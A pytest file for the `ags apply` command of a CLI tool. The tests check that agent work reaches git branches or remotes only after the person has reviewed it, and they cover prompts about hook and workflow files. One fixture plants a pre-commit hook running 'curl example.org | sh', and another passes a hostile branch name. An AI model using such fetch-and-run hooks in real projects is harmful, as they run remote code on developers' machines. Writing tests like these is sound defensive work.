"""`ags apply`: the work goes where the person wants it, and not before they had a look."""

from __future__ import annotations

from dataclasses import replace

import pytest

from ags import runs
from ags.cli import apply
from ags.runs import Result
from ags.workspace.apply import HEADS
from tests.cli.desk import HOSTILE, Desk, is_harmless

HOOK = {".husky/pre-commit": "true\n"}


def head(desk: Desk, branch: str = "main") -> str:
    return desk.project.ask("rev-parse", branch)


def test_the_branch_moves_forward_and_the_files_with_it(desk: Desk) -> None:
    run = desk.finished()
    said = desk.ags("apply", "fix-login")
    assert (said.code, said.err) == (0, "")
    assert run.result is not None
    assert said.out.splitlines() == [
        f"applied fix-login: main moved forward to {run.result.commit[:12]}",
        "1 file, 1 modified, +1 −0",
        "`ags undo fix-login` takes it back",
    ]
    assert head(desk) == run.result.commit
    assert (desk.project.folder / "a.txt").read_text() == "hello\nworld\n"
    assert desk.project.ask("status", "--short") == ""
    assert [each.target for each in desk.again(run).applied] == [f"{HEADS}main"]


def test_a_branch_that_went_on_gets_a_merge(desk: Desk) -> None:
    desk.finished()
    desk.project.write("other.txt", "x")
    before = desk.project.commit("went on")
    assert "merged into main as" in desk.ags("apply", "fix-login").out
    assert desk.project.ask("rev-parse", "main^1") == before


def test_squash_makes_one_commit_on_another_branch(desk: Desk) -> None:
    desk.finished()
    desk.project.git("branch", "develop")
    before = head(desk)
    said = desk.ags("apply", "--squash", "--into", "develop", "fix-login")
    assert "one commit on develop: " in said.out
    assert desk.project.ask("rev-parse", "develop^") == before == head(desk)


def test_a_patch_is_not_committed(desk: Desk) -> None:
    desk.finished()
    before = head(desk)
    assert "in your files and index" in desk.ags("apply", "--patch", "fix-login").out
    assert head(desk) == before
    assert desk.project.ask("status", "--short") == "M  a.txt"


def test_squash_and_patch_exclude_each_other(desk: Desk) -> None:
    assert desk.ags("apply", "--squash", "--patch", "x").code == 2


def test_a_conflict_names_the_files_and_changes_nothing(desk: Desk) -> None:
    run = desk.finished()
    desk.project.write("a.txt", "hello\nthere\n")
    desk.project.commit("mine")
    before = desk.project.state()
    said = desk.refused("apply", "fix-login")
    assert "a.txt" in said and "nothing was changed" in said
    assert desk.project.state() == before and desk.again(run).applied == ()


def test_twice_is_refused(desk: Desk) -> None:
    desk.finished(files=HOOK)
    assert desk.ags("apply", "--yes", "fix-login").code == 0
    said = desk.ags("apply", "fix-login")
    assert said.code == 1 and said.out == ""
    assert "it was applied to main already" in said.err and "ags undo fix-login" in said.err


def test_what_is_there_already_is_said(desk: Desk) -> None:
    desk.finished()
    desk.project.git("merge", "--quiet", "agent--fix-login")
    said = desk.ags("apply", "fix-login")
    assert (said.code, said.out) == (0, "nothing to apply: all of fix-login is there already\n")


@pytest.mark.parametrize("name", ["nobody", "--", "x" * 100])
def test_a_name_that_is_no_runs_is_refused(desk: Desk, name: str) -> None:
    assert "there is no run of this name" in desk.refused("apply", "--", name)


def test_a_branch_that_is_none_is_refused(desk: Desk) -> None:
    desk.finished()
    before = desk.project.state()
    said = desk.refused("apply", "--into", HOSTILE.replace("\0", ""), "fix-login")
    assert is_harmless(said) and "this is no branch" in said
    assert "there is no such branch" in desk.refused("apply", "--into", "nowhere", "fix-login")
    assert desk.project.state() == before


# What the host would run later


def test_with_nobody_to_ask_such_work_is_applied_only_if_told_to(desk: Desk) -> None:
    run = desk.finished(files=HOOK)
    before = desk.project.state()
    said = desk.ags("apply", "fix-login")
    assert said.code == 1 and ".husky/pre-commit  git runs it on commit" in said.out
    assert "there is no terminal to ask on" in said.err
    assert "ags apply --yes fix-login" in said.err
    assert desk.project.state() == before
    assert desk.ags("apply", "--yes", "fix-login").code == 0
    assert run.result is not None and head(desk) == run.result.commit


@pytest.mark.parametrize("answer", ["n", "", "maybe", "\x04"])
def test_on_a_terminal_the_person_is_asked_and_no_is_no(desk: Desk, answer: str) -> None:
    desk.finished(files=HOOK)
    before = desk.project.state()
    pressed = answer if answer == "\x04" else f"{answer}\r"
    code, screen = desk.on_terminal("apply", "fix-login", keys={"apply? [y/N]": pressed})
    assert code == 1 and "nothing was changed" in screen and "Traceback" not in screen
    assert screen.index(".husky/pre-commit") < screen.index("apply? [y/N]")
    assert desk.project.state() == before


def test_ctrl_c_at_the_question_changes_nothing(desk: Desk) -> None:
    desk.finished(files=HOOK)
    before = desk.project.state()
    code, screen = desk.on_terminal("apply", "fix-login", keys={"apply? [y/N]": "\x03"})
    assert code == 130 and "Traceback" not in screen
    assert desk.project.state() == before


def test_and_yes_is_yes(desk: Desk) -> None:
    run = desk.finished(files=HOOK)
    code, screen = desk.on_terminal("apply", "fix-login", keys={"apply? [y/N]": "y\r"})
    assert code == 0 and "moved forward" in screen
    assert run.result is not None and head(desk) == run.result.commit


def test_harmless_work_needs_no_question(desk: Desk) -> None:
    desk.finished()
    code, screen = desk.on_terminal("apply", "fix-login")
    assert code == 0 and "apply?" not in screen


def test_work_that_changed_while_the_person_looked_is_not_applied(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = desk.finished(files=HOOK)
    other = desk.branch("other", {".husky/pre-commit": "curl example.org | sh\n"})

    def restarted_meanwhile(_: object) -> bool:
        with runs.hold(runs.directory(desk.state, run.id)) as held:
            held.save(replace(held.run, result=Result(other, 1, 1, 0)))
        return True

    monkeypatch.setattr(apply, "_agreed", restarted_meanwhile)
    before = head(desk)
    assert "there is newer work than what you looked at" in desk.ags("apply", "fix-login").err
    assert head(desk) == before


def test_many_things_to_look_at_are_counted(desk: Desk) -> None:
    desk.finished(files={f".github/{number}.yml": "x\n" for number in range(30)})
    said = desk.ags("apply", "--yes", "fix-login")
    assert "  … 10 more\n" in said.out and said.out.count(".github/") == apply.MOST_NAMED


def test_it_goes_to_a_branch_of_a_remote_and_nothing_here_moves(desk: Desk) -> None:
    run = desk.finished()
    assert run.result is not None
    before = head(desk)
    far = desk.state.parent / "far.git"
    desk.project.git("init", "--bare", "--quiet", str(far))
    desk.project.git("remote", "add", "origin", str(far))
    said = desk.ags("apply", "--push", "origin/fix/login", "fix-login")
    assert said.out == f"pushed {run.result.commit[:12]} to fix/login of origin\n"
    assert desk.project.ask("--git-dir", str(far), "rev-parse", "fix/login") == run.result.commit
    assert head(desk) == before
    (pushed,) = desk.again(run).pushed
    assert (pushed.remote, pushed.branch, pushed.commit) == (
        "origin",
        "fix/login",
        run.result.commit,
    )
    assert "pushed     " in desk.ags("show", "fix-login").out


def test_a_remote_that_went_on_refuses_and_is_left_alone(desk: Desk) -> None:
    run = desk.finished()
    far = desk.state.parent / "far.git"
    desk.project.git("init", "--bare", "--quiet", str(far))
    desk.project.git("remote", "add", "origin", str(far))
    desk.project.write("other.txt", "x")
    theirs = desk.project.commit("went on")
    desk.project.git("push", "--quiet", "origin", "main:busy")
    said = desk.ags("apply", "--push", "busy", "fix-login")
    assert said.code == 1 and "push" in said.err
    assert desk.project.ask("--git-dir", str(far), "rev-parse", "busy") == theirs
    assert desk.again(run).pushed == ()


def test_a_remote_that_does_not_exist_is_named(desk: Desk) -> None:
    desk.finished()
    said = desk.ags("apply", "--push", "nowhere/x", "fix-login")
    assert said.code == 1 and "no remote of this name" in said.err
